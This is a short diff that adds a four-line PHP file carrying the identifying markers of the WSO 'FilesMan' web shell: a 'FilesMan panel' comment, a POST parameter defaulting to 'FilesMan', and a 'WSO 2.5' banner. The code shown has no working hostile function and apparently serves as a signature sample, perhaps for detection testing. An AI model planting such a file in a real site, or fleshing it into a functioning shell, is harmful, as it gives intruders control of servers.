@@ -1,0 +1,4 @@
+<?php
+// FilesMan panel
+$a = $_POST['a'] ?? 'FilesMan';
+echo 'WSO 2.5';
